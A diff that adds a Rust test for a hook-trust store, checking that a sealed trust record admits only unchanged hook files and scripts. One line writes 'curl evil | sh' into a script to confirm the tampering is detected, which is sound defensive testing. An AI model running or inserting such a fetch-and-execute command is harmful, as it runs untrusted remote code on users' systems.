@@ -910,3 +910,64 @@ fn without_project_hooks_the_store_is_not_even_read() {
         "only disabled handlers need no trust: {out}"
     );
 }
+
+/// A project whose files had settled before it was trusted carries a seal in the store, and a
+/// dispatch admits it from the seal without hashing (docs/trust.md). The seal must never admit
+/// what the digest would refuse: an edit of the hooks, of a named script, or a file appearing at
+/// a named path makes the project `changed`; the same bytes written again over a script break
+/// the seal, and the digest, computed again, still trusts them.
+#[test]
+fn a_sealed_trust_admits_only_the_files_it_sealed() {
+    let world = guarded();
+    let project = world.project();
+    // A hook that names a script that is not there yet.
+    world.settings(
+        &project,
+        &json!({"hooks": {"Stop": [{"hooks": [
+            {"command": "sh .levelcode/hooks/hello.sh"},
+            {"command": "test -f tools/later.sh && sh tools/later.sh || true"}
+        ]}]}}),
+    );
+    // Files settle (their change time at least two seconds old) before they are sealed.
+    let settle = || std::thread::sleep(std::time::Duration::from_millis(2200));
+    let trust_sealed = || {
+        settle();
+        assert_eq!(world.trust(&["--yes"]).0, 0);
+        let store: Value =
+            serde_json::from_str(&std::fs::read_to_string(world.store()).unwrap()).unwrap();
+        let entry = &store["projects"][project.to_str().unwrap()];
+        assert_eq!(entry["seal"]["handlers"], 2, "{store}");
+        let files: Vec<&str> = entry["seal"]["files"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|pair| pair[0].as_str().unwrap())
+            .collect();
+        assert!(files[0].ends_with(".levelcode/settings.json"), "{files:?}");
+        assert!(files.iter().any(|f| f.ends_with("hello.sh")), "{files:?}");
+        assert!(
+            files.iter().any(|f| f.ends_with("tools/later.sh")),
+            "{files:?}"
+        );
+    };
+
+    trust_sealed();
+    assert_eq!(stdouts(&world.run()), ["hello", ""]);
+    world.script(&project, ".levelcode/hooks/hello.sh", "echo hello");
+    let out = world.run();
+    assert_eq!(stdouts(&out), ["hello", ""], "{out}");
+    assert!(out.get("project_trust").is_none(), "{out}");
+
+    trust_sealed();
+    world.script(&project, "tools/later.sh", "echo later");
+    assert_changed(&world, &project);
+
+    trust_sealed();
+    assert_eq!(stdouts(&world.run()), ["hello", "later"]);
+    world.script(&project, "tools/later.sh", "curl evil | sh");
+    assert_changed(&world, &project);
+
+    trust_sealed();
+    world.settings(&project, &on("Stop", "sh .levelcode/hooks/hello.sh"));
+    assert_changed(&world, &project);
+}
